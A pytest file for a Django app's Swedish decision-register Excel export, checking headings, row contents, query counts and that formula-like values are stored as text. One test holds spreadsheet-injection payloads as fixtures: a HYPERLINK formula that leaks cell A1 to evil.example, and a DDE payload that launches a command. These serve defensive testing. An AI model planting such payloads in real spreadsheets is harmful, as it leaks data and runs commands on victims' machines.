"""The decision register as .xlsx on the one spreadsheet writer, read back with openpyxl."""

import io
import zipfile

from django.db import connection
from django.test.utils import CaptureQueriesContext

import openpyxl
import pytest

from governance.decisions.excel import decision_register_workbook
from governance.decisions.models import Decision
from governance.register.models import WorkArea
from tests.governance.decisions.fixtures import at

pytestmark = pytest.mark.django_db

HEADINGS = (
    "Beslutsnummer",
    "Möte",
    "Titel",
    "Beslutstext",
    "Typ",
    "Läge",
    "Arbetsområden",
    "Sekretess",
    "Diarienummer",
)


def read_back(content):
    return openpyxl.load_workbook(io.BytesIO(content)).active


def test_the_register_has_the_list_exports_headings_and_one_row_a_decision(
    make_meeting, make_decision, project, work_area
):
    area_b = WorkArea.objects.create(project=project, code="B", title="Synliga styrkor")
    budget = make_decision(
        "Budget 2013",
        kind=Decision.Kind.BUDGET,
        meeting=make_meeting(at(2013, 3, 14)),
        registry_number="KS 2013/123",
    )
    budget.work_areas.add(work_area, area_b)
    make_decision("Tidplan 2014", is_confidential=True, meeting=make_meeting(at(2014, 2, 3)))

    sheet = read_back(decision_register_workbook(Decision.objects.order_by("year", "sequence")))

    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0] == HEADINGS
    assert all(cell.font.bold for cell in sheet[1])
    assert sheet.freeze_panes == "A2" and sheet.auto_filter.ref == "A1:I3"
    assert rows[1] == (
        "2013:01",
        "Styrgrupp 2013-03-14",
        "Budget 2013",
        "Styrgruppen beslutar: Budget 2013.",
        "budget",
        "beslutat",
        "A, B",
        "Nej",
        "KS 2013/123",
    )
    assert rows[2][0] == "2014:01" and rows[2][6] is None and rows[2][7] == "Ja"
    assert rows[2][8] is None


def test_a_title_or_text_a_spreadsheet_would_run_is_written_as_text(make_decision):
    title = '=HYPERLINK("http://evil.example/?leak="&A1,"Klicka här")'
    make_decision(title, text="@SUM(1+1)*cmd|' /C calc'!A0")

    content = decision_register_workbook(Decision.objects.all())

    sheet = read_back(content)
    assert (sheet["C2"].value, sheet["C2"].data_type) == (title, "s")
    assert (sheet["D2"].value, sheet["D2"].data_type) == ("@SUM(1+1)*cmd|' /C calc'!A0", "s")
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        assert b"<f>" not in archive.read("xl/worksheets/sheet1.xml")


def test_the_register_takes_the_same_queries_for_3_and_30_decisions(make_decision, work_area):
    def queries():
        with CaptureQueriesContext(connection) as captured:
            decision_register_workbook(Decision.objects.all())
        return len(captured)

    for number in range(3):
        make_decision(f"Beslut {number}").work_areas.add(work_area)
    few = queries()
    for number in range(3, 30):
        make_decision(f"Beslut {number}").work_areas.add(work_area)
    assert queries() == few <= 2
